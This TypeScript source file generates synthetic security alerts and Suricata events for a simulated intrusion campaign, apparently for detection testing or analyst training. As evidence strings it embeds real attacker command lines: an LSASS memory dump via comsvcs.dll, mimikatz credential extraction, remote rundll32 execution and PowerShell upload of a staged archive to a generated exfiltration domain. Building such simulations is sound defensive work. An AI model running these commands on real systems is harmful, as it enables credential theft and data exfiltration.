// One attack campaign: phishing delivered → URL clicked → malicious document runs on the first workstation →
// persistence and C2 → credential theft → lateral movement with a stolen admin account → staging and
// exfiltration seen by Suricata. Everything is drawn from the campaign's own random stream, so campaign i is
// the same whatever else is generated.
import { D, LOOKALIKE, LURES, S, TLDS, WORDS } from './catalog';
import { BIN, freshFile } from './files';
import type { FileInfo, GraphDetection, JsonObject } from './graph-records';
import {
  analyzedMessageEvidence,
  deviceEvidence,
  fileEvidence,
  graphAlert,
  graphAlertId,
  ipEvidence,
  mailboxEvidence,
  processEvidence,
  registryKeyEvidence,
  SYSTEM_ACCOUNT,
  urlEvidence,
  userAccount,
  userEvidence,
} from './graph-records';
import type { OrgHost, OrgSize, OrgUser } from './org';
import { adminAccount, DC_INDEX, DNS_IP, PROXY_IP, publicIp, server, user, workstation } from './org';
import { guidFor, Rng } from './prng';
import type { SuricataSignature } from './suricata-records';
import { suricataAlert } from './suricata-records';
import type { ScenarioRecord } from './types';

const MIN = 60_000;

export type ScenarioContext = { seed: number; size: OrgSize; start: number; slotMs: number };

/** Shared record builders for campaign and noise generators. */
export class RecordSink {
  readonly out: ScenarioRecord[] = [];
  constructor(
    readonly rng: Rng,
    readonly campaign: number | null,
    public group: string,
  ) {}

  graph(det: GraphDetection, first: number, last: number, evidence: JsonObject[], extra?: { status?: 'new' | 'inProgress' | 'resolved'; classification?: string; determination?: string }): void {
    const created = last + this.rng.int(2, 15) * MIN + this.rng.int(0, 59_999);
    const next = (): number => this.rng.next();
    this.out.push({
      format: 'graph',
      record: graphAlert({
        id: graphAlertId(det.serviceSource, created, next),
        detection: det,
        detectorId: guidFor(det.title),
        first,
        last,
        created,
        evidence,
        ...(extra?.status ? { status: extra.status } : {}),
        ...(extra?.classification ? { classification: extra.classification } : {}),
        ...(extra?.determination ? { determination: extra.determination } : {}),
      }),
      campaign: this.campaign,
      group: this.group,
    });
  }

  suricata(sig: SuricataSignature, time: number, src: string, dest: string, extra?: { http?: { hostname: string; url: string; userAgent: string; method: string }; tls?: string; dns?: string; destPort?: number }): void {
    const r = this.rng;
    this.out.push({
      format: 'suricata',
      record: suricataAlert({
        time,
        micros: r.int(0, 999),
        // Unique per record (Suricata flow ids are 51-bit): 2^21 * 2^30.
        flowId: (r.next() & 0x1fffff) * 1073741824 + (r.next() & 0x3fffffff),
        src,
        srcPort: r.int(49152, 65535),
        dest,
        destPort: extra?.destPort ?? sig.destPort ?? 443,
        sig,
        ...(extra?.http ? { http: { ...extra.http, status: r.pick([200, 200, 200, 204, 404]), length: r.int(120, 90_000) } } : {}),
        ...(extra?.tls ? { tls: { sni: extra.tls } } : {}),
        ...(extra?.dns ? { dns: { rrname: extra.dns } } : {}),
        pkts: r.int(3, 40),
        bytes: r.int(300, 60_000),
      }),
      campaign: this.campaign,
      group: this.group,
    });
  }
}

const fill = (template: string, rng: Rng): string =>
  template
    .replace('{q}', String(rng.int(1, 4)))
    .replace('{n}', String(rng.int(10_000, 99_999)))
    .replace('{n3}', String(rng.int(100, 999)))
    .replace('{word}', rng.pick(WORDS).replace(/^./, (c) => c.toUpperCase()));

const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const encoded = (rng: Rng, n: number): string => Array.from({ length: n }, () => B64[rng.next() % B64.length]).join('') + '=';

/** Distinct indexes in [lo, hi) avoiding some. */
const distinct = (rng: Rng, count: number, lo: number, hi: number, avoid: ReadonlySet<number>): number[] => {
  const out: number[] = [];
  for (let tries = 0; out.length < count && tries < count * 20; tries++) {
    const k = rng.int(lo, hi - 1);
    if (!avoid.has(k) && !out.includes(k)) out.push(k);
  }
  return out;
};

/**
 * Records of campaign `index`. `target`, when given, is the exact number of alerts to produce (beacons are
 * added or later stages dropped to meet it).
 */
export const campaignRecords = (ctx: ScenarioContext, index: number, target?: number): ScenarioRecord[] => {
  const rng = new Rng(ctx.seed, 0xca, index);
  const sink = new RecordSink(rng, index, `c${index}`);
  const { size } = ctx;
  const t0 = ctx.start + index * ctx.slotMs + Math.floor(rng.float() * ctx.slotMs * 0.8);

  // Victims: 1-3 recipients; the first clicks and is compromised on their own workstation.
  const recipients = distinct(rng, rng.int(1, 3), 0, size.users, new Set()).map(user);
  const u0 = recipients[0] ?? user(0);
  const h0Index = u0.index % size.workstations;
  const h0 = workstation(h0Index);
  // The stolen account: an IT admin's (adm-...) whose credentials were cached on the first workstation.
  const admin = adminAccount(rng.int(4, Math.max(4, size.admins - 1)));
  const dc = server(DC_INDEX + (rng.chance(0.8) ? 0 : 1));

  // Attacker infrastructure, fresh per campaign.
  const lure = rng.pick(LURES);
  const senderDomain = `${rng.pick(LOOKALIKE)}-${rng.hex(3)}.${rng.pick(TLDS)}`;
  const sender = `${rng.pick(['no-reply', 'notifications', 'hr', 'billing', 'docs'])}@${senderDomain}`;
  const phishUrl = `https://${senderDomain}/${lure.path}/${rng.hex(12)}`;
  const c2Domain = `${rng.pick(WORDS)}${rng.pick(WORDS)}-${rng.hex(2)}.${rng.pick(TLDS)}`;
  const next = (): number => rng.next();
  const c2Ip = publicIp(next);
  const sameExfil = rng.chance(0.5);
  const exfilDomain = sameExfil ? c2Domain : `${rng.pick(WORDS)}-files-${rng.hex(3)}.${rng.pick(TLDS)}`;
  const exfilIp = sameExfil ? c2Ip : publicIp(next);
  const senderIp = publicIp(next);
  const c2Path = `/${rng.pick(['jquery-3.3.1.min.js', 'updates/check', 'api/v2/status', 'cdn/pixel.gif'])}`;
  const c2Url = `http://${c2Domain}${c2Path}`;

  const doc: FileInfo = freshFile(rng, fill(lure.doc, rng), `C:\\Users\\${u0.sam}\\Downloads`, rng.int(40_000, 400_000));
  const stageName = `${rng.pick(WORDS)}${rng.int(10, 99)}.dll`;
  const stage2 = freshFile(rng, stageName, `C:\\Users\\${u0.sam}\\AppData\\Roaming\\${rng.pick(['Microsoft', 'Adobe', 'Intel', 'Zoom'])}`, rng.int(200_000, 900_000));
  const credToolFile = freshFile(rng, rng.pick(['m64.exe', 'mimikatz.exe', 'svc_update.exe', 'kb4023057.exe']), 'C:\\ProgramData', rng.int(1_100_000, 1_400_000));
  const rarArchive = `C:\\ProgramData\\${rng.hex(6)}.rar`;

  // Lateral targets: a server or two and some workstations; DC rarely (it is in every identity alert anyway).
  const avoidWs = new Set([h0Index]);
  const targets: OrgHost[] = [];
  const nTargets = rng.int(1, 4);
  for (let k = 0; k < nTargets; k++) {
    if (rng.chance(0.45)) targets.push(server(rng.int(2, size.servers - 1)));
    else {
      const [w] = distinct(rng, 1, 0, size.workstations, avoidWs);
      if (w !== undefined) {
        avoidWs.add(w);
        targets.push(workstation(w));
      }
    }
  }

  const dev = (h: OrgHost, created: number, roles: string[], nameStyle: 'fqdn' | 'netbios' = 'fqdn', verdict = 'suspicious'): JsonObject =>
    deviceEvidence(h, { created, roles, verdict, nameStyle });
  const usr = (u: OrgUser, created: number, form: 'full' | 'upn' | 'sam' = 'full'): JsonObject =>
    userEvidence(u, { created, roles: ['compromised'], verdict: 'suspicious', form });

  // 1. Delivery: one ZAP alert covering every recipient.
  const tc = t0 + rng.int(3, 50) * MIN;
  const msgEvidence: JsonObject[] = [];
  for (const r of recipients) {
    const networkMessageId = rng.guid();
    msgEvidence.push(
      analyzedMessageEvidence(
        { sender, senderIp, recipient: r.upn, subject: fill(lure.subject, new Rng(ctx.seed, index, 7)), networkMessageId, urls: [phishUrl], attachments: 0, received: t0, deliveryAction: 'delivered' },
        { created: t0, roles: [], verdict: 'malicious' },
      ),
      mailboxEvidence(r, { created: t0, roles: ['destination'], verdict: 'unknown' }),
    );
  }
  sink.graph(D.phishRemoved, t0, t0 + rng.int(0, 2) * MIN, [...msgEvidence, urlEvidence(phishUrl, { created: t0, roles: [], verdict: 'malicious' })]);

  // 2. Clicks (the second recipient sometimes clicks too, without further compromise).
  const click = (u: OrgUser, at: number): void =>
    sink.graph(D.urlClick, at, at, [
      usr(u, at, 'upn'),
      mailboxEvidence(u, { created: at, roles: ['destination'], verdict: 'unknown' }),
      urlEvidence(phishUrl, { created: at, roles: [], verdict: 'malicious' }),
      ipEvidence(rng.chance(0.5) ? PROXY_IP : h0.ip, { created: at, roles: ['source'] }),
    ]);
  click(u0, tc);
  const u1 = recipients[1];
  if (u1 && rng.chance(0.35)) click(u1, tc + rng.int(5, 90) * MIN);

  // 3. Execution on h0.
  const te = tc + rng.int(1, 4) * MIN;
  const office = doc.fileName.endsWith('.xlsm') ? BIN.excel : BIN.winword;
  const psCmd = `powershell.exe -nop -w hidden -enc ${encoded(rng, 48)}`;
  const psProc = (at: number, account: JsonObject): JsonObject =>
    processEvidence({ image: BIN.powershell, parent: office, commandLine: psCmd, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account, started: at }, h0, { created: at, roles: [], verdict: 'suspicious' });
  sink.graph(D.officeCommands, te, te + rng.int(0, 3) * MIN, [
    dev(h0, te, ['compromised']),
    usr(u0, te, 'full'),
    psProc(te, userAccount(u0, 'sam')),
    fileEvidence(doc, h0, { created: te, roles: [], verdict: 'malicious', detailedRoles: ['Referred in command line'] }),
    ...(rng.chance(0.5) ? [urlEvidence(phishUrl, { created: te, roles: [], verdict: 'malicious' })] : []),
  ]);
  if (rng.chance(0.6)) {
    const at = te + rng.int(0, 2) * MIN;
    sink.graph(D.donoff, at, at, [dev(h0, at, ['compromised']), usr(u0, at, 'sam'), fileEvidence(doc, h0, { created: at, roles: [], verdict: 'malicious' })]);
  }
  if (rng.chance(0.7)) {
    const at = te + rng.int(1, 6) * MIN;
    sink.graph(D.suspiciousPowerShell, at, at + MIN, [
      dev(h0, at, ['compromised']),
      usr(u0, at, 'sam'),
      psProc(at, userAccount(u0, 'sam')),
      urlEvidence(c2Url, { created: at, roles: [], verdict: 'suspicious' }),
      ...(rng.chance(0.5) ? [ipEvidence(c2Ip, { created: at, roles: ['destination'] })] : []),
    ]);
  }

  // 4. Persistence and command and control.
  const rundllProc = (at: number, host: OrgHost, account: JsonObject): JsonObject =>
    processEvidence({ image: BIN.rundll32, parent: BIN.powershell, commandLine: `rundll32.exe "${stage2.filePath}\\${stage2.fileName}",DllRegisterServer`, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account, started: at }, host, { created: at, roles: [], verdict: 'malicious' });
  if (rng.chance(0.6)) {
    const at = te + rng.int(2, 20) * MIN;
    sink.graph(D.asepRegistry, at, at, [
      dev(h0, at, ['compromised']),
      usr(u0, at, 'sam'),
      registryKeyEvidence(`Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${stageName.replace('.dll', '')}`, 'HKEY_CURRENT_USER', { created: at, roles: [], verdict: 'suspicious' }),
      fileEvidence(stage2, h0, { created: at, roles: ['created'], verdict: 'malicious' }),
    ]);
  }
  const tC2 = te + rng.int(5, 30) * MIN;
  sink.graph(rng.chance(0.6) ? D.cobaltStrike : D.customIndicator, tC2, tC2 + rng.int(0, 20) * MIN, [
    dev(h0, tC2, ['compromised']),
    usr(u0, tC2, 'sam'),
    rundllProc(tC2, h0, userAccount(u0, 'sam')),
    fileEvidence(stage2, h0, { created: tC2, roles: [], verdict: 'malicious' }),
    ipEvidence(c2Ip, { created: tC2, roles: ['commandAndControl'], verdict: 'malicious' }),
    urlEvidence(c2Url, { created: tC2, roles: ['commandAndControl'], verdict: 'malicious' }),
  ]);
  const beaconSrc = rng.chance(0.6) ? h0.ip : PROXY_IP;
  const beacon = (at: number): void => {
    const sig = rng.chance(0.7) ? S.beaconGet : S.httpsPost;
    sink.suricata(sig, at, beaconSrc, c2Ip, { http: { hostname: c2Domain, url: c2Path, userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko', method: sig === S.httpsPost ? 'POST' : 'GET' } });
  };
  beacon(tC2 + rng.int(0, 3) * MIN);
  if (c2Domain.endsWith('.top')) sink.suricata(S.topDns, tC2 - rng.int(0, 2) * MIN, DNS_IP, '1.1.1.1', { dns: c2Domain });

  // 5. Credential access and discovery on h0.
  const tCred = tC2 + rng.int(15, 150) * MIN;
  sink.graph(D.lsass, tCred, tCred + rng.int(0, 5) * MIN, [
    dev(h0, tCred, ['compromised']),
    usr(u0, tCred, 'sam'),
    processEvidence({ image: BIN.rundll32, parent: BIN.powershell, commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${rng.int(600, 900)} C:\\ProgramData\\${rng.hex(4)}.dmp full`, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: userAccount(u0, 'sam'), started: tCred }, h0, { created: tCred, roles: [], verdict: 'malicious' }),
    processEvidence({ image: BIN.lsass, commandLine: 'C:\\Windows\\system32\\lsass.exe', pid: rng.int(600, 900), parentPid: rng.int(400, 600), account: SYSTEM_ACCOUNT, started: tCred - 86_400_000 }, h0, { created: tCred, roles: ['attacked'], verdict: 'unknown' }),
  ]);
  if (rng.chance(0.6)) {
    const at = tCred + rng.int(1, 20) * MIN;
    sink.graph(D.credTool, at, at, [
      dev(h0, at, ['compromised']),
      usr(u0, at, 'sam'),
      processEvidence({ image: credToolFile, parent: BIN.cmd, commandLine: `${credToolFile.fileName} "privilege::debug" "sekurlsa::logonpasswords" exit`, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: userAccount(u0, 'sam'), started: at }, h0, { created: at, roles: [], verdict: 'malicious' }),
      fileEvidence(credToolFile, h0, { created: at, roles: [], verdict: 'malicious' }),
    ]);
  }
  if (rng.chance(0.5)) {
    const at = tCred + rng.int(5, 40) * MIN;
    sink.graph(D.accountRecon, at, at + rng.int(0, 10) * MIN, [dev(h0, at, ['source'], 'netbios'), dev(dc, at, ['destination'], 'netbios', 'unknown'), usr(u0, at, 'sam')]);
  }
  if (rng.chance(0.5)) {
    const at = tCred + rng.int(2, 30) * MIN;
    sink.graph(D.explorationSequence, at, at + rng.int(0, 5) * MIN, [
      dev(h0, at, ['compromised']),
      usr(u0, at, 'sam'),
      processEvidence({ image: BIN.net, parent: BIN.cmd, commandLine: 'net group "Domain Admins" /domain', pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: userAccount(u0, 'sam'), started: at }, h0, { created: at, roles: [], verdict: 'suspicious' }),
      processEvidence({ image: BIN.nltest, parent: BIN.cmd, commandLine: 'nltest /dclist:fabrikam.com', pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: userAccount(u0, 'sam'), started: at }, h0, { created: at, roles: [], verdict: 'suspicious' }),
    ]);
  }

  // 6. Lateral movement with the stolen admin account; sometimes hopping on from the previous target.
  let tLat = tCred + rng.int(15, 120) * MIN;
  let last = h0;
  for (const target of targets) {
    const src = last !== h0 && rng.chance(0.3) ? last : h0;
    if (rng.chance(0.6)) {
      sink.graph(rng.chance(0.5) ? D.passTheHash : D.remoteExec, tLat, tLat + rng.int(0, 5) * MIN, [
        dev(src, tLat, ['source'], 'netbios'),
        dev(target, tLat, ['destination'], 'netbios', 'unknown'),
        usr(admin, tLat, 'sam'),
        ipEvidence(src.ip, { created: tLat, roles: ['source'] }),
      ]);
    }
    const at = tLat + rng.int(0, 3) * MIN;
    const method = rng.weighted([[5, 'psexec'], [3, 'wmi'], [2, 'rdp']] as const);
    if (method === 'rdp') {
      sink.graph(D.rdpHop, at, at + rng.int(1, 30) * MIN, [
        dev(target, at, ['compromised']),
        usr(admin, at, 'full'),
        ipEvidence(src.ip, { created: at, roles: ['source'] }),
        processEvidence({ image: BIN.mstsc, parent: BIN.explorer, commandLine: `mstsc.exe /v:${target.name}`, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: userAccount(admin, 'sam'), started: at }, src, { created: at, roles: [], verdict: 'suspicious' }),
      ]);
    } else {
      sink.graph(method === 'psexec' ? D.psexecService : D.wmiRemote, at, at + rng.int(0, 4) * MIN, [
        dev(target, at, ['compromised']),
        usr(admin, at, 'full'),
        ipEvidence(src.ip, { created: at, roles: ['source'] }),
        processEvidence({ image: BIN.cmd, parent: method === 'psexec' ? BIN.psexesvc : BIN.wmiprvse, commandLine: `cmd.exe /c "rundll32.exe C:\\ProgramData\\${stage2.fileName},DllRegisterServer"`, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: method === 'psexec' ? SYSTEM_ACCOUNT : userAccount(admin, 'sam'), started: at }, target, { created: at, roles: [], verdict: 'suspicious' }),
        fileEvidence({ ...stage2, filePath: 'C:\\ProgramData' }, target, { created: at, roles: ['created'], verdict: 'malicious' }),
      ]);
    }
    if (method !== 'rdp' && rng.chance(0.6)) sink.suricata(rng.chance(0.5) ? S.svcctl : S.smbExe, at - rng.int(0, 1) * MIN, src.ip, target.ip);
    last = target;
    tLat = at + rng.int(5, 60) * MIN;
  }

  // 7. Staging and exfiltration from the last host reached.
  const tEx = tLat + rng.int(10, 90) * MIN;
  if (rng.chance(0.5)) {
    sink.graph(D.archiveStaging, tEx - rng.int(3, 10) * MIN, tEx, [
      dev(last, tEx, ['compromised']),
      usr(admin, tEx, 'sam'),
      processEvidence({ image: BIN.rar, parent: BIN.cmd, commandLine: `Rar.exe a -hp${rng.hex(8)} ${rarArchive} \\\\${last.name}\\Shares\\Finance\\*`, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: userAccount(admin, 'sam'), started: tEx }, last, { created: tEx, roles: [], verdict: 'suspicious' }),
    ]);
  }
  if (rng.chance(0.6)) {
    const at = tEx + rng.int(0, 5) * MIN;
    sink.graph(D.exfilArchive, at, at + rng.int(1, 20) * MIN, [
      dev(last, at, ['compromised']),
      usr(admin, at, 'sam'),
      processEvidence({ image: BIN.powershell, parent: BIN.cmd, commandLine: `powershell.exe -c "Invoke-WebRequest -Method POST -InFile ${rarArchive} -Uri http://${exfilDomain}/upload"`, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: userAccount(admin, 'sam'), started: at }, last, { created: at, roles: [], verdict: 'suspicious' }),
      ipEvidence(exfilIp, { created: at, roles: ['destination'], verdict: 'suspicious' }),
      urlEvidence(`http://${exfilDomain}/upload`, { created: at, roles: ['destination'], verdict: 'suspicious' }),
    ]);
  }
  const exfilSrc = rng.chance(0.5) ? last.ip : PROXY_IP;
  const nExfil = rng.int(1, 3);
  for (let k = 0; k < nExfil; k++) {
    sink.suricata(rng.chance(0.6) ? S.exfilPost : S.rarPost, tEx + k * rng.int(1, 15) * MIN, exfilSrc, exfilIp, {
      http: { hostname: exfilDomain, url: `/upload/${rng.hex(8)}`, userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', method: 'POST' },
    });
  }

  // 8. Beacons keep going while the attacker is in; they fill the campaign up to its target size.
  const end = tEx + 30 * MIN;
  const core = sink.out.length;
  const beacons = target === undefined ? rng.int(2, 8) : Math.max(0, target - core);
  for (let k = 0; k < beacons; k++) beacon(tC2 + Math.floor(rng.float() * (end - tC2)));
  if (target !== undefined && sink.out.length > target) sink.out.length = Math.max(0, target);
  return sink.out;
};
